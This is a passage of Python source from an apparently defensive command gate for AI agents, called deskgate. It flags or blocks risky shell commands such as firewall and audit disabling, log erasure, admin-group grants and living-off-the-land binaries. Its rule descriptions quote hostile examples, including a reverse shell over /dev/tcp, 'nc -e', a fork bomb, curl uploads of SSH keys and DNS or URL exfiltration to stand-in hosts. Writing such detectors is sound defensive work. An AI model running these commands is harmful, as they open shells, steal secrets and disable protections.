        groups: set[str] = set()
        for k, w in enumerate(words):
            if w in ("-g", "-G", "-ag", "-a", "--groups", "--append") and k + 1 < len(words) and \
                    not words[k + 1].startswith("-"):
                groups.update(words[k + 1].split(","))
        if cmd.name in ("adduser", "gpasswd", "addgroup") and len(words) >= 2:
            groups.update(w for w in words[-1:])
        if cmd.name == "net" and "localgroup" in words and "/add" in words:
            groups.update(words)
        if cmd.name == "dseditgroup" and "admin" in words:
            groups.add("admin")
        uid0 = re.search(r"(^| )(-u|--uid)[ =]0( |$)", joined) is not None or ("-o" in words and "-u" in words)
        if groups & _ADMIN_GROUPS or uid0:
            add(Finding("block.shell.credential-tamper", Risk.CRITICAL,
                        f"{cmd.name} grants administrator rights "
                        f"({', '.join(sorted(groups & _ADMIN_GROUPS)) or 'uid 0'})"
                        f"{where}", cmd.span))
            return
        add(Finding("confirm.shell.privilege-escalation", Risk.MEDIUM if cmd.name not in ("chpasswd", "visudo")
                    else Risk.HIGH, f"{cmd.name}: changes accounts, groups or passwords{where}", cmd.span))

    def setcap(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        add(Finding("confirm.shell.privilege-escalation", Risk.HIGH, f"setcap grants capabilities to a "
                    f"program{where}", cmd.span))

    def firewall(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        name = cmd.name
        if name == "ufw":
            words = [w for w in words if not w.startswith("-")]
            if words[:1] == ["disable"] or words[:1] == ["reset"]:
                add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"ufw {words[0]}: switches the firewall "
                            f"off{where}", cmd.span))
            elif words[:1] and words[0] in ("allow", "deny", "reject", "delete", "default", "limit", "insert"):
                add(Finding("confirm.shell.network", Risk.MEDIUM, f"ufw {words[0]}: changes firewall rules{where}",
                            cmd.span))
            return
        if name == "setenforce" and words[:1] and words[0] in ("0", "permissive"):
            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"setenforce {words[0]}: switches SELinux "
                        f"enforcement off{where}", cmd.span))
            return
        if name == "auditctl" and ("-d" in words or "-D" in cmd.argv or ("-e" in words and "0" in words)):
            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"auditctl {' '.join(cmd.argv[1:3])}: switches "
                        f"auditing off{where}", cmd.span))
            return
        if name in ("spctl", "csrutil") and {"--master-disable", "disable", "--global-disable"} & set(words):
            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"{name} disables a system protection{where}",
                        cmd.span))
            return
        if name == "netsh" and "advfirewall" in words and "off" in words:
            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"netsh turns the firewall off{where}", cmd.span))
            return
        if name == "set-mppreference" and any(w.startswith("-disable") for w in words):
            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"disables Windows Defender protection{where}",
                        cmd.span))
            return
        if name in ("iptables", "ip6tables", "ebtables", "arptables", "iptables-legacy", "iptables-nft"):
            mut = [a for a in cmd.argv[1:] if a in ("-F", "-X", "-P", "-D", "-A", "-I", "-R", "-Z", "-N", "-E",
                                                     "--flush", "--delete-chain", "--policy", "--delete", "--append",
                                                     "--insert", "--replace", "--zero")]
            off = [a for a in mut if a in ("-F", "--flush", "-X", "--delete-chain")] or \
                (("-P" in mut or "--policy" in mut) and "accept" in cmd.words)
            if off:
                add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"{name} {' '.join(cmd.argv[1:4])}: "
                            f"switches the firewall off{where}", cmd.span))
            elif mut:
                add(Finding("confirm.shell.network", Risk.HIGH if mut[0] in ("-F", "--flush", "-P", "--policy", "-X")
                            else Risk.MEDIUM, f"{name} {' '.join(cmd.argv[1:4])}: changes the firewall{where}",
                            cmd.span))
            return
        if name == "nft" and words[:2] == ["flush", "ruleset"]:
            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"nft flush ruleset: switches the firewall "
                        f"off{where}", cmd.span))
            return
        if name == "iptables-restore" or (name == "nft" and words[:1] and words[0] in ("flush", "delete", "add",
                                                                                     "insert", "replace", "-f")):
            add(Finding("confirm.shell.network", Risk.HIGH, f"{name} {' '.join(words[:2])}: changes the "
                        f"firewall{where}", cmd.span))
            return
        if name == "firewall-cmd" and any(w.startswith(("--add", "--remove", "--set", "--panic", "--reload",
                                                        "--complete-reload")) for w in words):
            add(Finding("confirm.shell.network", Risk.MEDIUM, f"firewall-cmd changes the firewall{where}", cmd.span))

    def ip(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = [w for w in cmd.words[1:] if not w.startswith("-")]
        name = cmd.name
        down = False
        if name == "ip" and words:
            obj, verb = words[0], words[1] if len(words) > 1 else ""
            down = (obj in ("link", "l") and (verb in ("del", "delete") or (verb == "set" and "down" in words))) or \
                (obj in ("addr", "address", "a", "route", "r", "rule", "neigh") and verb in ("del", "delete", "flush"))
        elif name == "ifconfig":
            down = "down" in words
        elif name in ("ifdown", "ifdown.exe"):
            down = True
        elif name == "nmcli":
            down = "off" in words or words[:2] in (["connection", "down"], ["con", "down"], ["c", "down"]) or \
                words[:2] in (["device", "disconnect"], ["dev", "disconnect"], ["d", "disconnect"]) or \
                "delete" in words[:2]
        elif name == "route":
            down = "del" in words or "delete" in words or "flush" in words
        elif name == "tc":
            down = words[:2] in (["qdisc", "add"], ["qdisc", "replace"], ["qdisc", "change"])
        elif name == "rfkill":
            down = "block" in words
        elif name == "netsh":
            down = "disable" in words or "disabled" in words
        if down:
            add(Finding("confirm.shell.network", Risk.HIGH, f"{name} {' '.join(cmd.argv[1:5])}: takes a network "
                        f"interface, address or route away{where}", cmd.span))

    def history(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if any(w in ("-c", "-d", "-w", "-r", "-cw") or w.startswith("-c") for w in words):
            add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"history {' '.join(words)}: clears or "
                        f"rewrites the shell history{where}", cmd.span))

    def unset(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        if any(w in ("histfile", "histsize", "histfilesize") for w in cmd.words[1:]) or \
                (cmd.name == "set" and "+o" in cmd.words and "history" in cmd.words):
            add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"{cmd.text}: stops the shell history{where}",
                        cmd.span))

    def logs(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if (cmd.name == "journalctl" and any(w.startswith(("--vacuum", "--rotate")) for w in words) and \
                any(w.startswith("--vacuum") for w in words)) or (cmd.name == "wevtutil" and words[:1] and \
                words[0] in ("cl", "clear-log")) or cmd.name in ("clear-eventlog", "remove-eventlog", "limit-eventlog"):
            add(Finding("block.shell.anti-forensics", Risk.CRITICAL, f"{cmd.name} {' '.join(words[:2])}: erases "
                        f"system logs{where}", cmd.span))

    def lolbin(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        joined = " ".join(words)
        name = cmd.name
        if name in ("mshta", "regsvr32", "rundll32", "cscript", "wscript", "msxsl") and \
                re.search(r"https?://|\b(vbscript|javascript|script):|scrobj", joined):
            add(Finding("block.shell.remote-code-exec", Risk.CRITICAL,
                        f"{name} runs script code from a URL or inline script{where}", cmd.span))
            return
        if name == "msiexec" and re.search(r"(^| )[/-](i|package|j[mu]?|fa|update)( |$)", joined) and \
                re.search(r"https?://|\\\\", joined):
            add(Finding("block.shell.remote-code-exec", Risk.CRITICAL,
                        f"msiexec installs a package straight from the network: its setup code runs unseen{where}",
                        cmd.span))
            return
        if name == "findstr" or (name in ("expand", "replace", "extrac32", "makecab") and
                                 not _REMOTE_REF.search(joined)):
            return
        if name == "msiexec" and not re.search(r"https?://|/q", joined):
            return
        if name == "certutil" and not re.search(r"-(urlcache|verifyctl|decode|decodehex|encode|addstore)", joined):
            return
        if name == "wmic" and "call" not in words and "create" not in words and "delete" not in words:
            return
        add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"{name} used to download, decode or run code "
                    f"(a known living-off-the-land technique){where}", cmd.span))

    def network_tool(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        name = cmd.name
        words = list(cmd.words[1:])
        if name in ("nc", "ncat", "netcat", "cryptcat", "pwncat") and any(
                w in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or re.fullmatch(r"-[a-z]*e", w) for w in words):
            add(Finding("block.shell.reverse-shell", Risk.CRITICAL, f"{name} -e hands a shell to the network{where}",
                        cmd.span))
            return
        if name == "socat" and any(re.match(r"(exec|system):", w) for w in words) and \
                any(re.match(r"(tcp|udp|openssl|ssl)[46]?(-connect|-listen)?:", w) for w in words):
            add(Finding("block.shell.reverse-shell", Risk.CRITICAL, f"socat connects a program to the network{where}",
                        cmd.span))
            return
        cmds = analysis.commands
        # a shell and a network tool in one pipeline: the shell's input or output is the network
        if name in _NET_TOOLS and any(cmds[i].name in SHELLS and ("-i" in cmds[i].argv or _reads_stdin_as_code(cmds[i]))
                                      for i in cmd.upstream):
            add(Finding("block.shell.reverse-shell", Risk.CRITICAL, f"pipes a shell through {name}{where}", cmd.span))
            return
        secret = self.exfil_source(cmd, analysis)
        if secret:
            add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                        f"sends {secret} off the machine ({name}){where}", cmd.span))
            return
        uploads = _uploaded_files(cmd)
        if uploads:
            add(Finding("confirm.shell.network", Risk.MEDIUM,
                        f"uploads the local file {uploads[0]} to a remote host ({name}){where}", cmd.span))
        if name in _LISTENERS and any(re.fullmatch(r"-[a-z]*l[a-z]*", w) or w == "--listen" for w in words):
            add(Finding("confirm.shell.network", Risk.MEDIUM,
                        f"{name} listens for connections from the network{where}", cmd.span))
        elif name == "socat" and any(re.match(r"(tcp|udp|openssl|ssl)[46]?-listen:", w) for w in words):
            add(Finding("confirm.shell.network", Risk.MEDIUM, f"socat listens for connections{where}", cmd.span))

    def exfil_source(self, cmd: Command, analysis: ShellAnalysis) -> str | None:
        """What secret a network-sending command carries out, if any."""
        cmds = analysis.commands
        name = cmd.name
        words = cmd.argv[1:]
        for op, target in cmd.redirects:
            if op == "<":
                hit = self.secret_path(cmd, target)
                if hit:
                    return hit
        for path in _uploaded_files(cmd):
            hit = self.secret_path(cmd, path)
            if hit:
                return hit
        for i in cmd.subst:
            hit = self.reads_secret(cmds[i])
            if hit:
                return hit
        if name in _NET_TOOLS or name in ("curl", "curlie", "http", "https", "xh", "wget", "wget2", "ftp"):
            for i in cmd.upstream:
                hit = self.reads_secret(cmds[i])
                if hit:
                    return hit
        if name in ("scp", "rsync", "sftp") and any(re.match(r"^([\w.-]+@)?[\w.-]+:", a) for a in words):
            for a in words:
                if not a.startswith("-") and not re.match(r"^([\w.-]+@)?[\w.-]+:", a):
                    hit = self.secret_path(cmd, a)
                    if hit:
                        return hit
        return None

    def download(self, cmd: Command, downloaded: dict[str, str]) -> None:
        words = cmd.argv[1:]
        for k, a in enumerate(words):
            if a in ("-o", "-O", "--output", "--output-document") and k + 1 < len(words) and words[k + 1] != "-":
                downloaded[words[k + 1]] = cmd.name
            elif a.startswith("--output-document=") or a.startswith("--output="):
                downloaded[a.split("=", 1)[1]] = cmd.name
        if cmd.name in ("wget", "wget2") and not any(a.startswith(("-O", "--output-document")) for a in words):
            for a in words:
                if "://" in a:
                    downloaded[a.rstrip("/").rsplit("/", 1)[-1]] = cmd.name

    def executor(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None],
                 downloaded: dict[str, str]) -> None:
        """A shell / interpreter / eval: what code does it get, and from where?"""
        cmds = analysis.commands
        name = cmd.name
        fetchers = [cmds[i] for i in cmd.subst if cmds[i].name in DOWNLOADERS]
        if fetchers and (cmd.dynamic - {0}):
            add(Finding("block.shell.remote-code-exec", Risk.CRITICAL,
                        f"{name} runs code fetched by {fetchers[0].name}{where}", cmd.span))
            return
        if _reads_stdin_as_code(cmd) and cmd.upstream:
            ups = [cmds[i] for i in _with_nested(cmds, cmd.upstream)]
            fetch = next((c for c in ups if c.name in DOWNLOADERS or c.name in ("nc", "ncat", "netcat")), None)
            if fetch is not None:
                add(Finding("block.shell.remote-code-exec", Risk.CRITICAL,
                            f"pipes what {fetch.name} downloads straight into {name}{where}", cmd.span))
                return
            literal = all(c.name in ("echo", "printf", "base64", "base32", "rev", "xxd", "gunzip", "zcat", "gzip",
                                     "openssl", "cat", "tee") and not c.dynamic for c in ups)
            from_file = len(ups) == 1 and ups[0].name == "cat" and len(ups[0].argv) > 1
            if not literal and not from_file:
                add(Finding("confirm.shell.indirect-exec", Risk.HIGH,
                            f"pipes the output of {ups[-1].name} into {name}: the gate cannot see that code{where}",
                            cmd.span))
            return
        for a in cmd.argv[1:]:
            if a in downloaded and not a.startswith("-"):
                add(Finding("confirm.shell.indirect-exec", Risk.HIGH,
                            f"runs {a} right after downloading it ({downloaded[a]}){where}", cmd.span))
                return
        if name in ("source", ".") and len(cmd.argv) > 1 and 1 in cmd.dynamic:
            add(Finding("confirm.shell.indirect-exec", Risk.HIGH, f"sources {cmd.argv[1]}: known only at run "
                        f"time{where}", cmd.span))


_WIN_PROGRAM_FILE = re.compile(r"\.(exe|dll|scr|hta|msi|ps1|vbs|vbe|bat|cmd|com|cpl|jse?|wsf|lnk|sct)$", re.I)
# openssl commands that use a key or read a certificate without printing key material
_OPENSSL_KEEPS_KEYS = frozenset({"x509", "req", "verify", "crl", "s_client", "s_server", "dgst", "ciphers", "version",
                                 "speed", "rand", "ocsp", "ca", "cms", "smime", "ts", "crl2pkcs7", "sess_id",
                                 "genrsa", "genpkey", "ecparam", "dhparam", "prime", "list", "errstr", "storeutl"})


# what a dry run or a listing of one's own rights does not do: install, publish, delete, upload, escalate
_DRY_RUN_DROPS = frozenset({"confirm.shell.publish", "confirm.shell.install", "confirm.shell.destructive",
                            "confirm.shell.remote-mutation", "confirm.shell.vcs-destructive", "confirm.shell.network",
                            "confirm.shell.privilege-escalation", "confirm.shell.system-disruption"})
_SETS_VARIABLES = frozenset({"set", "setx", "setenv", "launchctl"})
_SUDO_INFO = frozenset({"-l", "-ll", "--list", "-v", "--validate", "-k", "-K", "--reset-timestamp",
                        "--remove-timestamp", "-V", "--version", "-h", "--help", "-n", "--non-interactive"})


def _changes_nothing(cmd: Command) -> bool:
    """A dry run, or `sudo -l` / `sudo -v` (lists or refreshes one's own rights; runs nothing)."""
    if cmd.name in ("sudo", "doas") and len(cmd.words) > 1:
        return all(w in _SUDO_INFO for w in cmd.words[1:])
    return dry_run(cmd.name, cmd.words)


_JUNK_NAME = re.compile(
    r"^(\*\.(pyc|pyo|py\[co\]|o|obj|class|tmp|swp|swo|orig|rej|bak|gcda|gcno|lo|la|pyd|tsbuildinfo|"
    r"coverage|egg-info)|\*~|\.\*\.swp|__pycache__|\.ds_store|\._\*|thumbs\.db|desktop\.ini|\.pytest_cache|"
    r"\.mypy_cache|\.ruff_cache|\.hypothesis|\.tox|\.nox|\.coverage|htmlcov|\.ipynb_checkpoints|"
    r"\.sass-cache|\.parcel-cache|\.turbo|\.next|\.nuxt|\*\.egg-info|\.eslintcache|\.stylelintcache)$")
_NAME_TESTS = frozenset({"-name", "-iname"})
_WIDENING = frozenset({"-path", "-ipath", "-regex", "-iregex", "-wholename", "-o", "-or", "-not", "!", "-prune"})


def _build_junk_only(root: str, words: list[str]) -> bool:
    """`find ROOT ... -delete` limited to build and editor leftovers (`-name '*.pyc'`, `-name __pycache__`)
    under a directory of the project (a relative path that does not climb out)."""
    if root.startswith(("/", "~", "$", "-")) or ".." in root.split("/"):
        return False
    names = [words[k + 1] for k, w in enumerate(words[:-1]) if w in _NAME_TESTS]
    if not names or any(w in _WIDENING for w in words):
        return False
    return all(_JUNK_NAME.match(n) for n in names)


def _last_operand(cmd: Command) -> int | None:
    ops = [i for i, a in enumerate(cmd.argv[1:], 1) if not a.startswith("-")]
    return ops[-1] if len(ops) >= 2 else None


def _with_nested(cmds: list[Command], indices: tuple[int, ...]) -> list[int]:
    """`indices` and the commands nested in each (`cmd /c curl ...` is recorded as cmd, then curl inside it)."""
    out = []
    for i in indices:
        out.append(i)
        depth = len(cmds[i].via)
        j = i + 1
        while j < len(cmds) and len(cmds[j].via) > depth and j not in indices:
            out.append(j)
            j += 1
    return out


def _git_dispatch(d: Detector, cmd: Command, a: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
    d.git(cmd, a, where, add)


_BY_NAME: dict[str, Callable[[Detector, Command, ShellAnalysis, str, Callable[[Finding], None]], None]] = {}
for _n in _DELETERS:
    _BY_NAME[_n] = Detector.delete
_BY_NAME.update({
    "find": Detector.find, "mv": Detector.move, "cp": Detector.move, "install": Detector.move, "ln": Detector.move,
    "tee": Detector.tee, "sed": Detector.sed, "gsed": Detector.sed, "perl": Detector.sed,
    "truncate": Detector.truncate, "dd": Detector.dd,
    "wipefs": Detector.wipefs, "blkdiscard": Detector.wipefs, "dc3dd": Detector.dd,
    "hdparm": Detector.disk_erase, "nvme": Detector.disk_erase, "cryptsetup": Detector.disk_erase,
    "zpool": Detector.disk_erase, "zfs": Detector.disk_erase, "badblocks": Detector.disk_erase,
    "format": Detector.disk_erase, "diskpart": Detector.disk_erase, "diskutil": Detector.disk_erase,
    "chmod": Detector.permissions, "chown": Detector.permissions, "chgrp": Detector.permissions,
    "git": _git_dispatch,
    "aws": Detector.cloud, "gcloud": Detector.cloud, "az": Detector.cloud,
    "docker": Detector.docker_run, "podman": Detector.docker_run, "docker-compose": Detector.docker_run,
    "dropdb": Detector.db_tools, "dropuser": Detector.db_tools, "mysqladmin": Detector.db_tools,
    "rails": Detector.frameworks, "rake": Detector.frameworks, "prisma": Detector.frameworks,
    "artisan": Detector.frameworks, "manage.py": Detector.frameworks, "django-admin": Detector.frameworks,
    "php": Detector.frameworks, "sequelize": Detector.frameworks, "sequelize-cli": Detector.frameworks,
    "typeorm": Detector.frameworks, "knex": Detector.frameworks,
    "lvremove": Detector.disk_erase, "vgremove": Detector.disk_erase, "pvremove": Detector.disk_erase,
    "mdadm": Detector.disk_erase,
    "init": Detector.init, "telinit": Detector.init,
    "systemctl": Detector.services, "service": Detector.services, "loginctl": Detector.services,
    "launchctl": Detector.launchctl, "crontab": Detector.crontab,
    "schtasks": Detector.scheduled, "reg": Detector.scheduled, "at": Detector.scheduled, "batch": Detector.scheduled,
    "update-rc.d": Detector.scheduled, "chkconfig": Detector.scheduled,
    "usermod": Detector.accounts, "useradd": Detector.accounts, "adduser": Detector.accounts,
    "gpasswd": Detector.accounts, "passwd": Detector.accounts, "chpasswd": Detector.accounts,
    "visudo": Detector.accounts, "addgroup": Detector.accounts, "net": Detector.accounts,
    "dseditgroup": Detector.accounts, "userdel": Detector.accounts, "deluser": Detector.accounts,
    "setcap": Detector.setcap,
    "ufw": Detector.firewall, "setenforce": Detector.firewall, "auditctl": Detector.firewall,
    "spctl": Detector.firewall,
    "csrutil": Detector.firewall, "netsh": Detector.firewall, "set-mppreference": Detector.firewall,
    "iptables": Detector.firewall, "ip6tables": Detector.firewall, "ebtables": Detector.firewall,
    "arptables": Detector.firewall, "iptables-legacy": Detector.firewall, "iptables-nft": Detector.firewall,
    "iptables-restore": Detector.firewall, "nft": Detector.firewall, "firewall-cmd": Detector.firewall,
    "ip": Detector.ip, "ifconfig": Detector.ip, "ifdown": Detector.ip, "nmcli": Detector.ip, "route": Detector.ip,
    "tc": Detector.ip, "rfkill": Detector.ip,
    "history": Detector.history, "unset": Detector.unset, "set": Detector.unset,
    "journalctl": Detector.logs, "wevtutil": Detector.logs, "clear-eventlog": Detector.logs,
    "remove-eventlog": Detector.logs, "limit-eventlog": Detector.logs,
})
for _n in _DISK_TOOLS:
    _BY_NAME[_n] = Detector.disk_tool
for _n in _POWER:
    _BY_NAME[_n] = Detector.power
for _n in _KILLERS:
    _BY_NAME[_n] = Detector.kill


def _perl_sed(d: Detector, cmd: Command, a: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
    if any((x.startswith("-") and "i" in x and "e" in x) or x == "-i" for x in cmd.argv[1:]):
        d.sed(cmd, a, where, add)


_BY_NAME["perl"] = _perl_sed

# every program some detector above judges by name (the effect table need not describe these again)
_JUDGED = frozenset({*_BY_NAME, *_DELETERS, *_DB_CLIENTS, *_NET_TOOLS, *_LOLBINS, *_PKG_INSTALL, *_PKG_REMOVE,
                     *_PUBLISH, *_INFRA_DESTROY, *DOWNLOADERS, *NET_SENDERS, *SHELLS, *INTERPRETERS, *_WRAPPERS,
                     *_POWER, *_KILLERS, *_DISK_TOOLS, "drop", "truncate", "delete", "alter", "update", "sudo",
                     "doas", "pkexec", "su", "gsudo", "eval", "source", ".", "iex", "invoke-expression", "ssh",
                     "autossh", "env", "timeout", "gtimeout", "parallel", "runas", "cmd", "script", "deskgate"})
# password databases, when no [files] policy is given
_DEFAULT_DUMPS = ['^/(private/)?etc/(g?shadow-?|master\\.passwd)$', '/windows/system32/config/(sam|security)$']


def _python_manage(d: Detector, cmd: Command, a: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
    if len(cmd.words) > 1 and cmd.words[1].endswith("manage.py"):
        d.frameworks(cmd, a, where, add)


for _n in ("python", "python3"):
    _BY_NAME[_n] = _python_manage


Step = Callable[[Detector, Command, ShellAnalysis, str, Callable[[Finding], None], dict[str, str]], None]


def _is_mkfs(name: str) -> bool:
    return name.startswith(("mkfs", "mke2fs", "newfs")) or name == "mkswap"


def _command_steps(name: str) -> tuple[Step, ...]:
    """The per-program checks of `Detector.command` that apply to a program name, in the order it runs them."""
    steps: list[Step] = []
    check = _BY_NAME.get(name)
    if check is not None:
        steps.append(lambda d, cmd, a, where, add, downloaded, check=check: check(d, cmd, a, where, add))
    if _is_mkfs(name):
        steps.extend(_MKFS_STEPS)
    if name in _DB_CLIENTS or name in ("drop", "truncate", "delete", "alter", "update"):
        steps.append(lambda d, cmd, a, where, add, downloaded: d.sql(cmd, a, where, add))
    if name in _PKG_INSTALL or name in _PKG_REMOVE:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.packages(cmd, where, add))
    if _PUBLISH.get(name) or name in _INFRA_DESTROY or name in ("docker", "podman", "terraform"):
        # (git is listed with no verbs to publish: for it, as for any name deploys has no verbs or rule for,
        # deploys finds nothing)
        steps.append(lambda d, cmd, a, where, add, downloaded: d.deploys(cmd, where, add))
    if name in _LOLBINS:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.lolbin(cmd, where, add))
    if name in _NET_TOOLS or name in NET_SENDERS:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.network_tool(cmd, a, where, add))
    if name in SHELLS or name in INTERPRETERS or name in ("eval", "source", ".", "iex", "invoke-expression"):
        steps.append(Detector.executor)
    if name in DOWNLOADERS:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.download(cmd, downloaded))
    return tuple(steps)


_MKFS_STEPS: tuple[Step, ...] = (lambda d, cmd, a, where, add, downloaded: d.mkfs(cmd, where, add),)
# every name a family of `Detector.command` tests for; any other name is only checked for a mkfs prefix
_COMMAND_STEPS: dict[str, tuple[Step, ...]] = {n: _command_steps(n) for n in (
    *_BY_NAME, *_DB_CLIENTS, "drop", "truncate", "delete", "alter", "update", *_PKG_INSTALL, *_PKG_REMOVE,
    *_PUBLISH, *_INFRA_DESTROY, *_LOLBINS, *_NET_TOOLS, *NET_SENDERS, *SHELLS, *INTERPRETERS, "eval", "source", ".",
    "iex", "invoke-expression", *DOWNLOADERS)}


# -- the entry points ----------------------------------------------------------------------------


def findings(analysis: ShellAnalysis, compiled: CompiledPolicy) -> tuple[Finding, ...]:
    """Every shell finding for `analysis` under the compiled policy's detector (cached per analysis)."""
    return compiled.shell.run(analysis)


def shell_findings(ctx: Context) -> tuple[Finding, ...]:
    """The findings for this action (shell, or typed into a terminal); once per context."""
    facts = ctx.derived(command_facts)
    if facts is None:
        return ()
    return ctx.compiled.shell.run(facts)


def _located(source: str, needle: str, field: str) -> Iterator[Span]:
    """Every place `needle` (a finding's span, a substring of the command) occurs in `source`."""
    pos = source.find(needle) if needle else -1
    while pos >= 0:
        yield Span(field, pos, pos + len(needle))
        pos = source.find(needle, pos + len(needle))


def _grouped(found: tuple[Finding, ...], source: str, field: str) -> dict[str, Verdict]:
    """rule id → (reason, risk, spans): the reason and risk of its riskiest finding, counting the others, and
    where in `source` (the judged `field` of the action) every one of its findings is."""
    by_rule: dict[str, list[Finding]] = {}
    for f in found:
        group = by_rule.get(f.rule)
        if group is None:
            by_rule[f.rule] = [f]
        else:
            group.append(f)
    out = {}
    for rule_id, group in by_rule.items():
        if len(group) == 1:  # most rules: one finding, its own spans (distinct offsets of one needle)
            top = group[0]
            out[rule_id] = (top.reason, top.risk, tuple(_located(source, top.span, field)))
            continue
        top = max(group, key=lambda f: f.risk)
        more = len(group) - 1
        spans = tuple(dict.fromkeys(s for f in group for s in _located(source, f.span, field)))
        out[rule_id] = (top.reason + f" (and {more} more)", top.risk, spans)
    return out


_NOTHING: dict[str, Verdict] = {}


def shell_verdicts(ctx: Context) -> dict[str, Verdict]:
    """Findings grouped by rule, once per context: each rule's check is then one dict lookup. Spans point
    into the action's `command` (or shell-quoted `argv`), or into the `text` typed into a terminal."""
    if ctx.type == "shell":  # what command_facts gives a shell action, without its step
        facts = ctx.derived(shell_facts)
        field = "command" if ctx.action.command is not None else "argv"  # type: ignore[union-attr]
    else:
        facts = ctx.derived(command_facts)
        if facts is None:
            return _NOTHING
        field = "text"  # typed into a terminal
    return ctx.compiled.shell.grouped(facts, field)


def _pick(rule_id: str) -> Callable[[Context], Verdict | None]:
    def check(ctx: Context) -> Verdict | None:
        return ctx.derived(shell_verdicts).get(rule_id)

    return check


def _make(rule_id: str, title: str, risk: Risk, doc: str, types: tuple[str, ...] = SHELL_TYPES,
          confidence: float = 0.95) -> Rule:
    check = _pick(rule_id)
    check.__doc__ = doc
    check.__name__ = rule_id.replace(".", "_").replace("-", "_")
    return Rule(rule_id, title, risk, check, frozenset(types), (), confidence, shell_verdicts)


RULES: tuple[Rule, ...] = (
    _make("block.shell.recursive-delete-root", "delete of /, home or a system directory", Risk.CRITICAL,
          "Deleting the root, a home directory, a protected path (`[shell] protected_paths`) or everything in "
          "one, or anything inside the operating system (`system_trees`): rm, rmdir, shred, find -delete."),
    _make("block.shell.disk-destruction", "disk destruction", Risk.CRITICAL,
          "Formatting, partitioning, wiping or writing raw data to a disk device (mkfs, dd of=/dev/sda, "
          "wipefs -a, fdisk, shred /dev/..., > /dev/sda)."),
    _make("block.shell.fork-bomb", "fork bomb", Risk.CRITICAL,
          "A function or program that starts copies of itself without end (`:(){ :|:& };:`)."),
    _make("block.shell.remote-code-exec", "remote code piped into a shell", Risk.CRITICAL,
          "Code downloaded and executed unseen: curl|sh, bash <(curl ...), eval \"$(curl ...)\", interpreter "
          "code that fetches and execs, mshta/regsvr32 with a URL."),
    _make("block.shell.reverse-shell", "reverse shell", Risk.CRITICAL,
          "A shell wired to a network connection: bash -i >& /dev/tcp/..., nc -e, socat exec:, a shell piped "
          "through nc, interpreter socket + shell code."),
    _make("block.shell.credential-exfiltration", "credential exfiltration", Risk.CRITICAL,
          "A secret (`[shell] secret_paths`, the environment, the keychain) sent over the network: curl -d "
          "@~/.ssh/id_rsa, nc host < .env, cat secret | curl, scp of a key to a remote host."),
    _make("block.shell.database-destruction", "database destruction", Risk.CRITICAL,
          "DROP DATABASE/SCHEMA/TABLE, TRUNCATE, DELETE FROM without WHERE, FLUSHALL, dropDatabase(), dropdb, "
          "given to a database client (-c/-e/--eval, here-doc) or typed as a command."),
    _make("block.shell.anti-forensics", "wiping system logs", Risk.CRITICAL,
          "Truncating, deleting or vacuuming system logs (`[shell] log_paths`, journalctl --vacuum, wevtutil cl)."),
    _make("block.shell.insecure-permissions-root", "world-writable or re-owned system tree", Risk.CRITICAL,
          "chmod 777 (or any world-writable mode) on /, home or a system path; chown -R / chgrp -R on one."),
    _make("block.shell.credential-tamper", "credential tampering", Risk.CRITICAL,
          "Writing account, sudo or SSH key files (`[shell] credential_files`: /etc/passwd, /etc/shadow, "
          "sudoers, authorized_keys, ld.so.preload) or granting administrator group membership / uid 0."),
    _make("block.shell.system-file-tamper", "overwriting or moving system files", Risk.CRITICAL,
          "Overwriting, replacing or moving away a file of the operating system (`system_trees`, e.g. "
          "/usr/bin/bash) or a protected path."),
    _make("block.shell.policy-pattern", "policy block pattern", Risk.CRITICAL,
          "A simple command matches one of the policy's `[shell] block_patterns`."),
    _make("block.shell.supervisor-tamper", "attacks deskgate itself", Risk.CRITICAL,
          "The agent runs deskgate's control verbs that belong to the person (`deskgate resume`, `unpause`, "
          "`serve`, `run`, `revoke`, `log prune`, any verb not known to be harmless), stops deskgate (pkill, "
          "systemctl stop), or writes, deletes, moves or re-permissions deskgate's config, policy, kill state, "
          "socket or audit files (`[files] supervisor_paths` and the XDG directories)."),
    _make("block.shell.exfiltration", "data sent off the machine", Risk.CRITICAL,
          "A whole home directory or a key directory archived or copied to a network sink (tar ~ | ssh, "
          "rsync ~/.ssh host:), DNS lookups or URLs built from command output (nslookup $(whoami).x.example, "
          "curl x.example/?d=$(cat f | base64)), ping -p with command output."),
    _make("block.shell.credential-read", "prints a private key or credential file", Risk.CRITICAL,
          "A program that prints or encodes a file (cat, head, base64, xxd, ...) over a private key, cloud "
          "credential or password store (`[files] credentials`): the same files a file_read blocks. Copying "
          "or using one (cp, openssl -in, ssh -i) asks or passes."),
    _make("block.shell.suid-shell", "setuid shell", Risk.CRITICAL,
